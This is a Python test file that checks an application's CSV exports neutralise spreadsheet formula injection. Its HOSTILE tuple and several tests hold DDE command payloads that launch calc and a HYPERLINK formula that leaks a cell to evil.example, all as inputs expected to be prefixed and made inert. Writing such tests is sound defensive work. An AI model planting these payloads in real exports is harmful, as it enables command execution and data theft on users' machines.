"""Issue 18, item 3: no CSV this app writes holds a live spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import ast
import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from core.analytics.gap_report import render_csv
from core.analytics.gaps import GapCluster, GapQuery, GapReport, NearestRunbook, ResolutionNote, Trend
from core.analytics.metrics import (
    Bucket,
    MetricKind,
    MetricPoint,
    MetricRange,
    MetricSeries,
    MetricsReport,
    Scorecard,
    csv_text,
)
from core.csv_safety import csv_writer, inert_cell
from core.settings import GapSettings

REPO_ROOT = Path(__file__).resolve().parents[2]
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "\uff1dcmd|' /C calc'!A0",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_cell_is_prefixed_with_a_quote(text: str) -> None:
    assert inert_cell(text) == "'" + text


@pytest.mark.parametrize("value", [0, -3, 2.5, -0.25, "-0.25", "+3", "1e-05", "-1E+3", ".5", "12", None])
def test_numbers_stay_numbers(value: object) -> None:
    assert inert_cell(value) == value


@pytest.mark.parametrize("text", ["VPN drops", "", "a=b", "user@example.com", "100%", "-", "--", "- step"])
def test_plain_text_is_unchanged_unless_it_starts_with_a_trigger(text: str) -> None:
    expected = "'" + text if text[:1] == "-" else text
    assert inert_cell(text) == expected


def test_the_writer_quotes_every_row_and_keeps_the_csv_parseable() -> None:
    buffer = io.StringIO()
    writer = csv_writer(buffer, lineterminator="\n")
    writer.writerows([["=a", 1, -2.5], ['@b,"c"', "x", None]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["'=a", "1", "-2.5"],
        ['\'@b,"c"', "x", ""],
    ]


def _cluster(label: str, title: str, note: str) -> GapCluster:
    return GapCluster(
        key="g0123456789",
        rank=1,
        label=label,
        terms=("=term", "vpn"),
        size=5,
        share=0.5,
        trend=Trend.GROWING,
        trend_counts=(1, 2, 2),
        severity_mix=(("high", 5),),
        mttr_hours=-1.5,  # a bad source can make it negative: still a number
        resolved_count=5,
        mean_severity_weight=2.0,
        impact=15.0,
        impact_hours=1.5,
        impact_share=1.0,
        cumulative_share=1.0,
        cohesion=0.8,
        central_tickets=(),
        resolution_notes=(ResolutionNote(note, 3, "INC1", 1),),
        nearest_runbook=NearestRunbook(7, title, 0.4, 0.6, (), "@below the review threshold"),
        member_ticket_ids=(1, 2, 3, 4, 5),
        centroid=b"",
    )


def test_gap_csv_cells_from_ticket_text_are_inert() -> None:
    cluster = _cluster("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', "+restart")
    report = GapReport(
        query=GapQuery(),
        settings=GapSettings(),
        model_id="m",
        generated_at=datetime(2026, 6, 1, tzinfo=UTC),
        range_start=None,
        range_end=None,
        review_threshold=0.5,
        in_range=10,
        not_analysed=0,
        covered=5,
        uncovered=5,
        noise=0,
        clusters=(cluster,),
        dismissed=(),
        method="test",
    )
    row = next(csv.DictReader(io.StringIO(render_csv(report))))
    assert row["label"] == "'=cmd|' /C calc'!A0"
    assert row["terms"] == "'=term; vpn"
    assert row["nearest_runbook"] == '\'=HYPERLINK("http://evil.example","x")'
    assert row["why_not_covered"] == "'@below the review threshold"
    assert row["resolution_notes"] == "'+restart (INC1)"
    assert (row["tickets"], row["mttr_hours"]) == ("5", "-1.50")  # numbers stay numbers


def test_metrics_csv_group_from_a_connector_name_is_inert() -> None:
    june = datetime(2026, 6, 1, tzinfo=UTC)
    series = MetricSeries(
        key="sync_failures",
        title="Sync failures",
        kind=MetricKind.COUNT,
        unit="runs",
        group="=cmd|' /C calc'!A0",
        points=(MetricPoint(june, -0.5, -0.5, None),),
    )
    report = MetricsReport(MetricRange(june, june + timedelta(days=1), Bucket.DAY), (series,), Scorecard(()))
    row = next(csv.DictReader(io.StringIO(csv_text(report))))
    assert row["group"] == "'=cmd|' /C calc'!A0"
    assert (row["value"], row["numerator"]) == ("-0.5", "-0.5")


def _csv_writer_calls(path: Path) -> list[int]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    return [
        node.lineno
        for node in ast.walk(tree)
        if isinstance(node, ast.Attribute)
        and isinstance(node.value, ast.Name)
        and node.value.id == "csv"
        and node.attr in ("writer", "DictWriter")
    ]


def test_every_csv_export_goes_through_the_inert_writer() -> None:
    """A new export that calls ``csv.writer`` itself would write live formulas again."""
    offenders = [
        f"{path.relative_to(REPO_ROOT)}:{line}"
        for package in ("core", "desktop", "connectors")
        for path in sorted((REPO_ROOT / package).rglob("*.py"))
        if path.name != "csv_safety.py"
        for line in _csv_writer_calls(path)
    ]
    assert offenders == []
